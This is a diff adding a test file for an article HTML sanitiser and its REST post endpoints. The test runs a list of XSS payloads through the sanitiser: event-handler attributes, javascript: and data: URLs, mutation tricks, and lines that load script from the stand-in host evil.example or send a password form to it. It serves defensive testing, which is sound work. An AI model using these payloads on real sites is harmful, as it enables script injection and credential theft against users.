@@ -1,0 +1,144 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type TestApp, testApp } from '../../testing/test-app.ts';
+import { articleHtml } from './article-html.ts';
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x" onerror="alert(1)" />',
+  '<img src=`x` onerror=alert(1)//',
+  '<img/src="x"/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href=" &#1; javascript:alert(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="//evil.example">x</a>',
+  '<img src="//evil.example/x.png">',
+  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="//www.youtube.com.evil.example/embed/x"></iframe>',
+  '<object data="x.swf"></object>',
+  '<embed src="x.swf">',
+  '<form action="https://evil.example"><input name=password><button>x</button></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<body onload=alert(1)>',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<style>@import "https://evil.example/x.css";</style>',
+  '<p style="position:fixed;top:0;background:url(https://evil.example)">x</p>',
+  '<div style="width:expression(alert(1))">x</div>',
+  '<p id="root" class="fixed inset-0" data-x="y">x</p>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video><source onerror=alert(1)></video>',
+  '<input autofocus onfocus=alert(1)>',
+  '<textarea><img src=x onerror=alert(1)></textarea>',
+  '<title><img src=x onerror=alert(1)></title>',
+  '<template><script>alert(1)</script></template>',
+  '<!--><img src=x onerror=alert(1)>-->',
+  '<![CDATA[<img src=x onerror=alert(1)>]]>',
+  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+  '<p>"><img src=x onerror=alert(1)></p>',
+];
+
+const tag =
+  /^<\/?(?:h[2-4]|p|br|hr|ul|ol|li|blockquote|pre|code|strong|b|em|i|u|s|sub|sup|a|img|figure|figcaption|iframe|table|thead|tbody|tr|th|td)(?=[\s/>])/;
+const harm = [
+  /\son\w+\s*=/i,
+  /\s(?:style|class|id|srcdoc|formaction|data-\w+)\s*=/i,
+  /(?:href|src)="\s*(?:\w*script:|data:|\/\/|https:\/\/(?!www\.youtube(?:-nocookie)?\.com\/))/i,
+];
+
+/** Looks at every tag by itself, so that text and titles may say what they like. */
+function expectHarmless(html: string): void {
+  for (const found of html.match(/<(?:"[^"]*"|[^>"])*>?/g) ?? []) {
+    expect(found).toMatch(tag);
+    const names = found.replace(/"[^"]*"/g, '""');
+    for (const pattern of harm)
+      expect(`${names} ${found.match(/(?:href|src)="[^"]*"/g)}`).not.toMatch(pattern);
+  }
+}
+
+test.each(attacks)('makes %j harmless', (html) => {
+  const clean = articleHtml(`<p>Before</p>${html}`);
+  expectHarmless(clean);
+  // and once clean it stays as it is
+  expect(articleHtml(clean)).toBe(clean);
+});
+
+test('the look at a tag sees what is harmful', () => {
+  for (const html of ['<p onclick="x">', '<a href="javascript:x">', '<svg>', '<img src="//x">', '<!-- -->']) {
+    expect(() => expectHarmless(html)).toThrow();
+  }
+});
+
+test.each([
+  '<h2>Title</h2><p>Text with <strong>bold</strong>, <em>italic</em> and <u>underlined</u>.</p>',
+  '<ul><li>One</li><li>Two</li></ul><ol><li>Three</li></ol>',
+  '<blockquote><p>Said</p></blockquote>',
+  '<table><thead><tr><th>A</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
+  '<p>Fish &amp; chips, 1 &lt; 2</p>',
+])('keeps %j', (html) => expect(articleHtml(html)).toBe(html));
+
+test('links stay, without a way back for the page they open', () => {
+  expect(articleHtml('<a href="https://example.org" target="_blank">x</a>')).toBe(
+    '<a href="https://example.org" target="_blank" rel="noopener noreferrer">x</a>',
+  );
+  for (const href of ['/programs/1', 'mailto:office@example.org', 'tel:+256700000000']) {
+    expect(articleHtml(`<a href="${href}">x</a>`)).toContain(`href="${href}"`);
+  }
+});
+
+test('pictures and players of the video host stay', () => {
+  expect(articleHtml('<img src="/uploads/a.webp" alt="A">')).toContain('src="/uploads/a.webp" alt="A"');
+  const player = articleHtml('<iframe src="https://www.youtube-nocookie.com/embed/abcdefghijk"></iframe>');
+  expect(player).toContain('src="https://www.youtube-nocookie.com/embed/abcdefghijk"');
+});
+
+describe('over REST', () => {
+  let t: TestApp;
+  let token: string;
+  beforeAll(async () => {
+    t = await testApp();
+    token = (await t.signIn()).token;
+  });
+  afterAll(() => t.close());
+
+  test('what is stored is clean already, on create and on change', async () => {
+    const body = { title: 'T', content: `<p>Fine</p>${attacks.join('')}` };
+    const created = await t.call<{ id: number; content: string }>('POST', '/posts', body, { token });
+    const { id } = created.body.data;
+    const changed = await t.call<{ content: string }>('PUT', `/posts/${id}`, body, { token });
+    const rows = await t.db.orm.em.fork().execute<{ content: string }[]>('select content from posts');
+    for (const content of [created.body.data.content, changed.body.data.content, rows[0]?.content ?? '']) {
+      expect(content).toContain('<p>Fine</p>');
+      expectHarmless(content);
+    }
+  });
+
+  test('what is nothing once it is clean is refused as missing', async () => {
+    for (const content of ['<script>alert(1)</script>', '<iframe src="https://evil.example"></iframe>']) {
+      const { status, body } = await t.call('POST', '/posts', { title: 'T', content }, { token });
+      expect([status, body.error.details]).toEqual([400, [{ path: 'content', message: 'This is required' }]]);
+    }
+  });
+
+  test('the search looks through the text, not the tags', async () => {
+    const content = '<p>Graduates in <strong>gowns</strong></p>';
+    await t.call('POST', '/posts', { title: 'Found', content }, { token });
+    const total = async (q: string) => (await t.call('GET', `/posts?q=${q}`)).body.meta.total;
+    expect([await total('gowns'), await total('strong')]).toEqual([1, 0]);
+  });
+});
